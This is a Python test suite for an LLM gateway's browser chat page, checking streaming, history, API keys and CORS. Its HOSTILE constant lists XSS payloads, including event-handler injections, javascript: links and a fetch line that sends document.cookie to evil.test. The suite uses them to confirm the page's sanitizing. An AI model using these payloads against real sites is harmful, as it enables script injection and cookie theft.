"""The chat page in a browser, with a gateway process, PostgreSQL and a loopback upstream."""

from __future__ import annotations

import asyncio
import json
import os
import re
import sys
import uuid
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, Any, Self

import pytest
import pytest_asyncio
from aiohttp import ClientSession, web
from aiohttp.test_utils import TestServer

from tests.gateway_process import GatewayProcess
from tests.journeys.stage import Stage, open_stage
from tests.loopback import LoopbackUpstream, WaitFor, chat_stream
from tests.page.browser_checks import axe_violations, expect, until, watched
from tests.page.static_server import STATIC

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

    from playwright.async_api import Browser, CDPSession, Page

    from tests.loopback import Request, Script
    from tests.postgres import PostgresServer

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOSTILE = """\
# <script>document.title='owned'</script>

<img src=x onerror="document.title='owned'"> <svg onload="document.title='owned'"></svg>
<iframe src="https://evil.test/"></iframe><style>body{display:none}</style><base href="https://evil.test/">
<form action="https://evil.test/"><button>Give</button></form><meta http-equiv="refresh" content="0;url=https://evil.test/">

[link](javascript:document.title='owned') [data](data:text/html,<script>1</script>) <javascript:alert(1)>
[ref]: javascript:alert(1)
[ref] ![pixel](https://evil.test/p.png?secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=) ![x](x" onerror="alert(1))
[good](https://example.test/ok "title\\" onmouseover=\\"alert(1)")

| a | <img src=y onerror=alert(1)> |
|---|---|
| `</code><script>alert(1)</script>` | <a href="javascript:alert(1)">x</a> |

```html" onmouseover="alert(1)
</code></pre><script>document.title='owned'</script>
```

```javascript
fetch("https://evil.test/?" + document.cookie) // </script><script>alert(1)</script>
```

- [x] <input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def stage(tmp_path_factory: pytest.TempPathFactory, postgres: PostgresServer) -> AsyncIterator[Stage]:
    dsn = postgres.create_database()
    async with LoopbackUpstream() as upstream:
        folder = tmp_path_factory.mktemp("page")
        env = {"GATEWAY_POLICY_URL": "https://intranet.example/policy"}
        async for stage in open_stage(GatewayProcess.upon(folder, upstream.url, dsn, **env), upstream, dsn):
            yield stage
    postgres.drop_database(dsn)


def held(text: str, go_on: asyncio.Event, chunks: int = 3) -> Script:
    """An answer that pauses after its first chunks."""
    whole = chat_stream(text)
    begun = whole.first(chunks)
    return type(whole)([*begun.steps, WaitFor(go_on), *whole.steps[len(begun.steps) :]])


@asynccontextmanager
async def chatting(browser: Browser, stage: Stage, **options: Any) -> AsyncIterator[Page]:
    stage.upstream.forget()
    async with watched(browser, f"{stage.gateway.url}/", **options) as page:
        await page.wait_for_selector(".starters")
        yield page


async def write(page: Page, text: str) -> None:
    await page.locator("#composer-text").fill(text)
    await page.keyboard.press("Enter")


async def answered(page: Page, count: int = 1) -> str:
    await until(page, f"document.querySelectorAll('.assistant.complete').length >= {count}")
    return await page.locator(".assistant.complete .content").last.inner_text()


def chat_requests(stage: Stage) -> list[Request]:
    """The chat requests that reached the upstream."""
    return [request for request in stage.upstream.requests if request.method == "POST"]


def word() -> str:
    """A unique word."""
    return f"w{uuid.uuid4().hex[:10]}"


async def test_an_answer_streams_has_its_usage_and_is_in_the_history(browser: Browser, stage: Stage) -> None:
    go_on, question = asyncio.Event(), word()
    async with chatting(browser, stage) as page:
        stage.upstream.script(held("One two three four.", go_on))
        await write(page, question)
        await until(page, "document.querySelector('.assistant .content')?.textContent.includes('One')")
        await expect(page.locator(".assistant.streaming")).to_have_count(1)
        go_on.set()
        assert await answered(page) == "One two three four."
        await expect(page.locator(".assistant .meta")).to_contain_text("7 tokens in")
        await expect(page.locator(".assistant .meta")).to_contain_text("first word after")
        await expect(page.locator("[role=status]")).to_contain_text("4 words")
        await page.locator(f".history .open:text-is('{question}')").wait_for()
        rows = await stage.fetch("select * from llm_logs.chatgpt_logs where request::text like $1", f"%{question}%")
        assert len(rows) == 1


async def test_stop_cancels_the_answer_at_the_upstream(browser: Browser, stage: Stage) -> None:
    for way in ("button", "escape"):
        async with chatting(browser, stage) as page:
            question = word()
            stage.upstream.script(held("One two three four.", asyncio.Event()))
            await write(page, question)
            await until(page, "document.querySelector('.assistant .content')?.textContent.includes('One')")
            if way == "button":
                await page.get_by_role("button", name="Stop").click()
            else:
                await page.keyboard.press("Escape")
            await page.wait_for_selector(".assistant.stopped")
            [request] = chat_requests(stage)
            await stage.upstream.wait_closed(request)
            async with asyncio.timeout(10):
                query = "select outcome from llm_logs.chatgpt_logs where request::text like $1"
                while not (rows := await stage.fetch(query, f"%{question}%")):
                    await asyncio.sleep(0.05)
            assert [row["outcome"] for row in rows] == ["client_cancelled"]


async def test_a_reload_resumes_the_running_answer(browser: Browser, stage: Stage) -> None:
    go_on = asyncio.Event()
    async with chatting(browser, stage) as page:
        stage.upstream.script(held("One two three four.", go_on))
        await write(page, "go")
        await until(page, "document.querySelector('.assistant .content')?.textContent.includes('One')")
        await page.reload()
        await until(page, "document.querySelector('.assistant.streaming .content')?.textContent.includes('One')")
        go_on.set()
        assert await answered(page) == "One two three four."
        await expect(page.locator(".user .content")).to_have_text("go")
    assert len(chat_requests(stage)) == 1


async def test_an_answer_that_ended_while_the_page_was_closed_is_recovered(browser: Browser, stage: Stage) -> None:
    go_on = asyncio.Event()
    async with chatting(browser, stage) as page:
        stage.upstream.script(held("One two three four.", go_on))
        await write(page, "go")
        await until(page, "document.querySelector('.assistant .content')?.textContent.includes('One')")
        url = page.url
        await page.goto("about:blank")
        go_on.set()
        await asyncio.sleep(0.3)
        await page.goto(url)
        assert await answered(page) == "One two three four."


class BreakableProxy:
    """A TCP proxy whose connections a test can break."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._ends: set[asyncio.StreamWriter] = set()
        self._server: asyncio.Server | None = None
        self.url = ""

    async def __aenter__(self) -> Self:
        self._server = await asyncio.start_server(self._join, "127.0.0.1", 0)
        self.url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}/"
        return self

    async def __aexit__(self, *error: object) -> None:
        assert self._server is not None
        self._server.close()
        self.break_connections()

    def break_connections(self) -> None:
        for end in self._ends:
            end.transport.abort()

    async def _join(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        far_reader, far_writer = await asyncio.open_connection("127.0.0.1", self._port)
        self._ends |= {writer, far_writer}
        await asyncio.gather(_carry(reader, far_writer), _carry(far_reader, writer))


async def _carry(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(ConnectionError):
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    writer.close()


async def test_a_broken_connection_is_recovered(browser: Browser, stage: Stage) -> None:
    go_on = asyncio.Event()
    stage.upstream.forget()
    async with BreakableProxy(stage.gateway.port) as proxy, watched(browser, proxy.url) as page:
        await page.wait_for_selector(".starters")
        stage.upstream.script(held("One two three four.", go_on))
        await write(page, "go")
        await until(page, "document.querySelector('.assistant .content')?.textContent.includes('One')")
        proxy.break_connections()
        go_on.set()
        assert await answered(page) == "One two three four."
    assert len(chat_requests(stage)) == 1


async def test_an_answer_continues_after_its_conversation_is_left(browser: Browser, stage: Stage) -> None:
    go_on, question = asyncio.Event(), word()
    async with chatting(browser, stage) as page:
        stage.upstream.script(held("One two three four.", go_on))
        await write(page, question)
        await until(page, "document.querySelector('.assistant .content')?.textContent.includes('One')")
        await page.locator(".new-chat").click()
        await page.wait_for_selector(".welcome h2")
        await page.locator(f".history .open:has-text('{question}')").click()
        go_on.set()
        assert await answered(page) == "One two three four."


async def test_the_history_is_searched_opened_renamed_and_hidden(browser: Browser, stage: Stage) -> None:
    first, second = word(), word()
    async with chatting(browser, stage) as page:
        for question in (first, second):
            await page.locator(".new-chat").click()
            await write(page, question)
            await answered(page)
            await page.locator(f".history .open:text-is('{question}')").wait_for()
        await page.locator("#search").fill(first)
        await page.locator(f".history .open:text-is('{second}')").wait_for(state="detached")
        await page.locator(f".history .open:text-is('{first}')").click()
        await until(page, f"document.querySelector('.user .content')?.textContent === '{first}'")
        await write(page, "And then?")
        await answered(page, 2)
        assert [m["role"] for m in json.loads(chat_requests(stage)[-1].body)["messages"]] == [
            "system",
            "user",
            "assistant",
            "user",
        ]
        await page.locator("#search").fill("")
        await page.locator(f".history li:has(.open:text-is('{first}'))").hover()
        await page.get_by_role("button", name=f"Rename or hide “{first}”").click()
        await page.locator("#conversation-name").fill("A better title")
        await page.keyboard.press("Enter")
        await page.locator(".history .open:text-is('A better title')").wait_for()
        await page.reload()
        await page.locator(f".history .open:text-is('{second}')").wait_for()
        await page.locator(".history li:has(.open:text-is('A better title'))").hover()
        await page.get_by_role("button", name="Rename or hide “A better title”").click()
        await page.get_by_role("button", name="Let the model name it").click()
        await until(page, "document.querySelector('#conversation-name').value.startsWith('You said')")
        await page.get_by_role("button", name="Hide from history").click()
        await page.get_by_text("Nothing is deleted").first.wait_for()
        await page.reload()
        await page.locator(f".history .open:text-is('{second}')").wait_for()
        await expect(page.locator(".history .open:has-text('You said')")).to_have_count(0)


async def test_an_edited_question_begins_a_branch_of_the_same_conversation(browser: Browser, stage: Stage) -> None:
    async with chatting(browser, stage) as page:
        old, new = word(), word()
        await write(page, old)
        before = await answered(page)
        await page.locator("#composer-text").press("ArrowUp")
        await page.locator(".edit-text").fill(new)
        await page.keyboard.press("Enter")
        await until(page, f"document.querySelector('.assistant.complete .content')?.textContent.includes('{new}')")
        await expect(page.locator(".user .position")).to_have_text("2 / 2")
        await page.locator(".user .pager").get_by_role("button", name="Previous version").click()
        await expect(page.locator(".user .content")).to_have_text(old)
        await expect(page.locator(".assistant .content")).to_have_text(before, use_inner_text=True)
        async with asyncio.timeout(10):
            query = "select root_gpt_id from llm_logs.chatgpt_logs where request::text like $1"
            while not (rows := await stage.fetch(query, f"%{new}%")):
                await asyncio.sleep(0.05)
        assert rows == await stage.fetch(query, f"%{old}%")


async def test_parameters_and_use_case_are_sent_and_survive_a_reload(browser: Browser, stage: Stage) -> None:
    async with chatting(browser, stage) as page:
        await page.locator("#use-case").select_option(label="Coding assistant")
        await page.get_by_role("button", name="Parameters").click()
        await expect(page.locator("#instructions")).to_have_value(re.compile("engineer"))  # with the next frame
        for name in ("temperature", "top_p", "presence_penalty", "frequency_penalty", "max_tokens"):
            await expect(page.locator(f"#{name}-help")).to_have_text(re.compile(r".{20}"))
            await page.locator(f"#{name}-number").fill("0.3" if name != "max_tokens" else "9")
        assert await axe_violations(page) == []
        await page.keyboard.press("Escape")
        await page.reload()
        await write(page, word())
        await answered(page)
    body = json.loads(chat_requests(stage)[-1].body)
    fields = ("temperature", "top_p", "presence_penalty", "frequency_penalty", "max_tokens")
    assert [body[name] for name in fields] == [0.3, 0.3, 0.3, 0.3, 9]
    assert "engineer" in body["messages"][0]["content"]
    assert "root_id" not in body


async def test_a_draft_survives_a_reload(browser: Browser, stage: Stage) -> None:
    async with chatting(browser, stage) as page:
        await page.locator("#composer-text").fill("half a thought")
        await page.reload()
        await until(page, "document.querySelector('#composer-text')?.value === 'half a thought'")


async def test_text_typed_right_after_a_question_is_the_next_draft(browser: Browser, stage: Stage) -> None:
    go_on = asyncio.Event()
    async with chatting(browser, stage) as page:
        stage.upstream.script(held("One two three four.", go_on))
        await page.locator("#composer-text").fill("go")
        # Before the next frame, and before the conversation has its id
        await page.evaluate(
            "(() => { const field = document.querySelector('#composer-text');"
            " field.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true, cancelable: true}));"
            " field.value += 'and then'; field.dispatchEvent(new Event('input')); })()"
        )
        await until(page, "document.querySelector('.assistant .content')?.textContent.includes('One')")
        await expect(page.locator("#composer-text")).to_have_value("and then")
        go_on.set()
        await answered(page)
        await expect(page.locator("#composer-text")).to_have_value("and then")


async def test_hostile_markdown_runs_no_script_and_sends_no_request(browser: Browser, stage: Stage) -> None:
    """`watched` checks requests to other hosts, policy violations and dialogs."""
    async with chatting(browser, stage) as page:
        stage.upstream.script(chat_stream(list(HOSTILE)), chat_stream([HOSTILE]))
        for count in (1, 2):
            await write(page, HOSTILE)
            await answered(page, count)
        await asyncio.sleep(0.3)
        assert await page.title() == "LLM gateway"
        bad = "script, iframe, style, base, form:not(.edit), meta, svg:not(.icon), object, [onerror], [onload], [style]"
        assert await page.locator(f".content :is({bad})").count() == 0
        assert await page.locator(".content img").count() == 0
        hrefs = await page.evaluate("[...document.querySelectorAll('.content a')].map(a => [a.href, a.rel, a.target])")
        assert hrefs
        for href, rel, target in hrefs:
            assert href.startswith("https://")
            assert "noopener" in rel
            assert target == "_blank"
        assert "onerror" in await page.locator(".assistant .content").last.inner_text()


async def test_reasoning_is_collapsed(browser: Browser, stage: Stage) -> None:
    async with chatting(browser, stage) as page:
        stage.upstream.script(chat_stream("Yes.", reasoning="Let me think."))
        await write(page, "hm?")
        assert await answered(page) == "Yes."
        thought = page.locator(".assistant .reasoning-text")
        await expect(thought).to_be_hidden()
        await page.locator(".assistant .reasoning summary").click()
        await expect(thought).to_have_text("Let me think.")


@pytest.mark.stopwatch
async def test_an_answer_of_fifty_kilobytes_stays_fast(browser: Browser, stage: Stage) -> None:
    part = "## Part\n\nSome **bold** words with `code` in a line, and more of them.\n\n"
    part += "- one\n- two\n\n```py\nx = 1\n```\n\n"
    text = (part * 600)[:50_000]
    async with chatting(browser, stage) as page:
        chunks = [text[at : at + 20] for at in range(0, len(text), 20)]
        stage.upstream.script(chat_stream(chunks, pace=0.001))
        measure = await page.context.new_cdp_session(page)
        await measure.send(
            "Performance.enable", {"timeDomain": "threadTicks"}
        )  # CPU time, so that other processes do not count
        began = await cpu_seconds(measure)
        await write(page, "go")
        await until(page, "document.querySelectorAll('.assistant .code').length > 20")
        first = await page.evaluate_handle("document.querySelector('.assistant .content').firstElementChild")
        await page.wait_for_selector(".assistant.complete", timeout=60_000)
        assert await page.evaluate("first => first.isConnected", first)  # closed blocks are not rendered again
        took = await cpu_seconds(measure) - began
        print(f"CPU of the page for 50 kB in 2,500 chunks: {took:.2f} s")
        assert took < 6  # 15.5 s if each chunk renders the whole answer


async def cpu_seconds(measure: CDPSession) -> float:
    """CPU time of the page's main thread."""
    metrics = await measure.send("Performance.getMetrics")
    return float(next(each["value"] for each in metrics["metrics"] if each["name"] == "TaskDuration"))


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
async def test_axe_has_no_serious_finding(browser: Browser, stage: Stage, width: int, scheme: str) -> None:
    text = "# Title\n\nText with [a link](https://a.example), `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    text += "```py\ndef f(): # hm\n    return 'x', 1\n```\n\n- [x] done"
    options: dict[str, Any] = {"viewport": {"width": width, "height": 800}, "color_scheme": scheme}
    async with chatting(browser, stage, **options) as page:
        assert await axe_violations(page) == []
        stage.upstream.script(chat_stream(text, reasoning="hm"))
        await write(page, "hello")
        await answered(page)
        await page.wait_for_selector(".hl-keyword")
        assert await axe_violations(page) == []
        if width < 900:
            await page.get_by_role("button", name="Conversations").click()
            await until(page, "document.activeElement.ariaLabel === 'Close'")
            assert await axe_violations(page) == []
            await page.keyboard.press("Escape")
            await until(page, "document.activeElement.ariaLabel === 'Conversations'")


async def test_the_theme_can_be_chosen_and_survives_a_reload(browser: Browser, stage: Stage) -> None:
    ground = "document.body && getComputedStyle(document.body).backgroundColor"
    async with chatting(browser, stage, color_scheme="light") as page:
        await until(page, f"{ground} === 'rgb(251, 250, 248)'")
        await page.get_by_role("button", name="Colours: as the system").click()
        await until(page, f"{ground} === 'rgb(25, 24, 22)'")
        await page.reload()
        await until(page, f"{ground} === 'rgb(25, 24, 22)'")


async def test_the_whole_page_works_by_keyboard(browser: Browser, stage: Stage) -> None:
    question = word()
    async with chatting(browser, stage) as page:
        await page.keyboard.type(question)  # the message field has the focus
        await page.keyboard.press("Enter")
        await answered(page)
        await page.locator(f".history .open:text-is('{question}')").wait_for()
        await page.keyboard.press("Control+Shift+O")
        await page.wait_for_selector(".welcome h2")
        await page.keyboard.press("Control+K")
        await page.keyboard.type(question)
        await page.locator(f".history .open:text-is('{question}')").wait_for()
        for _ in range(8):
            await page.keyboard.press("Tab")
            if await page.evaluate("document.activeElement.textContent") == question:
                break
        await page.keyboard.press("Enter")
        await until(page, f"document.querySelector('.user .content')?.textContent === '{question}'")


# ── keys, and the page on a static host ──────────────────────────────────────────────────────────────────────────────


@asynccontextmanager
async def static_host(config: dict[str, Any] | None = None) -> AsyncIterator[str]:
    """A static host of the page's files; `config` is the page.json beside them."""

    async def index(request: web.Request) -> web.FileResponse:
        return web.FileResponse(STATIC / "index.html")

    async def page_json(request: web.Request) -> web.Response:
        if config is None:
            raise web.HTTPNotFound
        return web.json_response(config)

    app = web.Application()
    app.router.add_get("/", index)
    app.router.add_get("/page.json", page_json)
    app.router.add_static("/static", STATIC)
    async with TestServer(app) as server:
        yield str(server.make_url("/"))


async def new_key(folder: Path, dsn: str) -> str:
    """Creates a key with the command line."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "gateway", "keys", "create", "--user", "ada", "--name", "page"),
        env={**os.environ, "DATABASE_URL": dsn, "GATEWAY_DATA_DIR": str(folder / "data"), "GATEWAY_AUTH": "keys"},
        stdout=asyncio.subprocess.PIPE,
    )
    output, _ = await process.communicate()
    return next(part for part in output.decode().split() if part.startswith("sk-gw-"))


async def until_known(gateway: GatewayProcess, key: str) -> None:
    """Waits until the gateway has loaded the key, which it does periodically."""
    async with asyncio.timeout(15), ClientSession(headers={"Authorization": f"Bearer {key}"}) as session:
        while True:
            async with session.get(f"{gateway.url}/keys") as answer:
                if answer.status == 200:
                    return
            await asyncio.sleep(0.05)


@asynccontextmanager
async def locked(tmp_path: Path, postgres: PostgresServer, **env: str) -> AsyncIterator[tuple[GatewayProcess, str]]:
    """A gateway that authenticates by keys, and a key of it."""
    dsn = postgres.create_database()
    async with LoopbackUpstream() as upstream:
        gateway = GatewayProcess.upon(tmp_path, upstream.url, dsn, **{"GATEWAY_AUTH": "keys", **env})
        async with gateway:
            key = await new_key(tmp_path, dsn)
            await until_known(gateway, key)
            yield gateway, key
    postgres.drop_database(dsn)


async def test_the_page_asks_for_a_key_and_stores_it_for_the_tab(
    browser: Browser, tmp_path: Path, postgres: PostgresServer
) -> None:
    async with (
        locked(tmp_path, postgres, GATEWAY_TOKEN_URL="https://tokens.example/new") as (gateway, key),
        watched(browser, f"{gateway.url}/") as page,
    ):
        await page.locator("#sign-in[open]").wait_for()
        link = page.get_by_role("link", name="Generate a token")
        await expect(link).to_have_attribute("href", "https://tokens.example/new")
        await page.locator("#token").fill("sk-gw-wrong")
        await page.keyboard.press("Enter")
        await page.get_by_text("was not accepted").wait_for()
        await page.locator("#token").fill(key)
        await page.keyboard.press("Enter")
        await page.wait_for_selector(".starters")
        await write(page, "hello")
        await answered(page)
        await page.reload()
        await page.get_by_role("button", name="Signed in with a key").wait_for()
        kept = await page.evaluate(
            "[JSON.stringify({...localStorage}) + document.cookie, JSON.stringify({...sessionStorage})]"
        )
        assert key not in kept[0]
        assert key in kept[1]
        await page.get_by_role("button", name="Signed in with a key").click()
        await page.get_by_role("button", name="Sign out").click()
        await page.get_by_text("Sign in to see your conversations").wait_for()
        assert key not in await page.evaluate("JSON.stringify({...sessionStorage})")


BY_PROXY = {
    "GATEWAY_AUTH": "header, keys",
    "GATEWAY_AUTH_TRUSTED_NETWORKS": "127.0.0.1",
    "GATEWAY_AUTH_USER_HEADER": "X-User",
    "GATEWAY_AUTH_OWN_KEYS_S": "43200",
}


@pytest.mark.parametrize("width", [390, 1280])
async def test_a_user_signed_in_by_a_proxy_creates_a_key_sees_it_once_and_revokes_it(
    browser: Browser, tmp_path: Path, postgres: PostgresServer, width: int
) -> None:
    options: dict[str, Any] = {
        "extra_http_headers": {"X-User": "ann"},
        "permissions": ["clipboard-read", "clipboard-write"],
        "viewport": {"width": width, "height": 800},
    }
    async with (
        locked(tmp_path, postgres, **BY_PROXY) as (gateway, _),
        watched(browser, f"{gateway.url}/", **options) as page,
    ):
        await page.wait_for_selector(".starters")
        if width < 900:
            await page.get_by_role("button", name="Conversations").click()
        await page.get_by_role("button", name="Generate a token").focus()
        await page.keyboard.press("Enter")
        await expect(page.locator("#key-name")).to_be_focused()
        await page.keyboard.type("notebook")
        await page.keyboard.press("Enter")
        value = page.get_by_label("Your key, shown this once")
        await expect(value).to_be_focused()
        await expect(page.locator("#key-ends")).to_have_text(re.compile(r"It ends .*\d\d:\d\d"))
        await page.get_by_role("button", name="Copy the key").click()
        await expect(page.get_by_role("button", name="Copied")).to_be_visible()
        key = await page.evaluate("navigator.clipboard.readText()")
        await expect(value).to_have_value(key)
        lines = f"export OPENAI_BASE_URL={gateway.url}/v1\nexport OPENAI_API_KEY={key}"
        await expect(page.locator(".created-key pre")).to_have_text(lines)
        assert await axe_violations(page) == []
        assert await page.evaluate("document.documentElement.scrollWidth") <= width
        async with ClientSession(headers={"Authorization": f"Bearer {key}"}) as session:
            answer = await session.get(f"{gateway.url}/keys")
            assert [each["name"] for each in (await answer.json())["data"]] == ["notebook"]
            await page.get_by_role("button", name="Close").locator("visible=true").last.click()
            everything = "JSON.stringify([{...localStorage}, {...sessionStorage}, document.body.innerHTML])"
            await until(page, f"!({everything}).includes('{key}')")  # with the frame after the dialog has closed
            await expect(value).to_have_value("")
            await page.get_by_role("button", name="Generate a token").click()
            await page.get_by_role("button", name="Revoke “notebook”").click()
            await expect(page.locator(".own-keys li")).to_have_count(0)
            assert (await session.get(f"{gateway.url}/keys")).status == 401


async def test_a_key_can_create_keys_from_the_sign_in_dialog_and_a_created_key_cannot(
    browser: Browser, tmp_path: Path, postgres: PostgresServer
) -> None:
    links = {"GATEWAY_TOKEN_URL": "https://tokens.example/new"}
    async with (
        locked(tmp_path, postgres, GATEWAY_AUTH_OWN_KEYS_S="60", **links) as (gateway, key),
        watched(browser, f"{gateway.url}/") as page,
    ):
        await expect(page.get_by_role("link", name="Generate a token")).to_be_visible()  # no user is signed in yet
        for used in (key, ""):
            await page.locator("#token").fill(used or key)
            await page.keyboard.press("Enter")
            await page.get_by_role("button", name="Signed in with a key").click()
            sheet = page.locator("#sign-in")
            await expect(sheet.get_by_role("link", name="Generate a token")).to_be_hidden()
            await sheet.get_by_role("button", name="Generate a token").click()
            await page.get_by_role("button", name="Generate", exact=True).click()
            if used:
                await expect(page.locator("#key-value")).to_have_value(re.compile("^sk-gw-"))
                key = await page.locator("#key-value").input_value()
                await page.keyboard.press("Escape")
                await page.get_by_role("button", name="Signed in with a key").click()
        await expect(page.locator("#keys .error")).to_contain_text("cannot create other keys")


async def test_the_page_on_a_static_host_works_with_a_gateway_that_allows_its_origin(
    browser: Browser, tmp_path: Path, postgres: PostgresServer
) -> None:
    async with static_host() as host:
        origin = host.rstrip("/")
        async with locked(tmp_path, postgres, GATEWAY_ALLOWED_ORIGINS=origin) as (gateway, key):
            netloc = gateway.url.removeprefix("http://")
            async with watched(browser, f"{host}?gateway={gateway.url}", hosts=frozenset({netloc})) as page:
                await page.locator("#sign-in[open]").wait_for()
                await expect(page.locator("#address")).to_have_value(gateway.url)
                await page.locator("#token").fill(key)
                await page.keyboard.press("Enter")
                await page.wait_for_selector(".starters")
                question = word()
                await write(page, question)
                await answered(page)
                await page.locator(f".history .open:text-is('{question}')").wait_for()
                await write(page, "And more")
                await answered(page, 2)  # in the same conversation: CORS exposes the ids
                await expect(page.locator(".history .open")).to_have_count(1)


async def test_the_page_on_a_static_host_works_with_an_openai_compatible_server(browser: Browser) -> None:
    async def models(request: web.Request) -> web.Response:
        return web.json_response({"data": [{"id": "local-model"}]}, headers=cors)

    async def chat(request: web.Request) -> web.Response:
        seen.append((request.headers.get("Authorization"), await request.json()))
        return web.Response(body=chat_stream("Hello there.").payload, content_type="text/event-stream", headers=cors)

    async def preflight(request: web.Request) -> web.Response:
        return web.Response(headers={**cors, "Access-Control-Allow-Headers": "authorization, content-type"})

    cors = {"Access-Control-Allow-Origin": "*"}
    seen: list[tuple[str | None, dict[str, Any]]] = []
    app = web.Application()
    app.router.add_get("/v1/models", models)
    app.router.add_post("/v1/chat/completions", chat)
    app.router.add_route("OPTIONS", "/v1/{path:.*}", preflight)
    async with TestServer(app) as server, static_host() as host:
        base = str(server.make_url("/v1"))
        netloc = base.removeprefix("http://").removesuffix("/v1")
        async with watched(browser, host, hosts=frozenset({netloc})) as page:
            await page.locator("#sign-in[open]").wait_for()
            await page.locator("#address").fill(base)
            await page.locator("#token").fill("sk-local")
            await page.keyboard.press("Enter")
            await page.wait_for_selector(".starters")
            await write(page, "hello")
            assert await answered(page) == "Hello there."
            await expect(page.locator("#search")).to_be_hidden()
    [(authorization, body)] = seen
    assert authorization == "Bearer sk-local"
    assert body["model"] == "local-model"


async def test_an_origin_that_is_not_allowed_is_refused(browser: Browser, stage: Stage) -> None:
    async with static_host() as host:
        netloc = stage.gateway.url.removeprefix("http://")
        async with watched(browser, f"{host}?gateway={stage.gateway.url}", hosts=frozenset({netloc})) as page:
            await page.get_by_text("The gateway cannot be reached.").first.wait_for()
    origin = {"Origin": host.rstrip("/")}
    assert "Access-Control-Allow-Origin" not in (await stage.ask("/page.json", method="GET", headers=origin)).headers
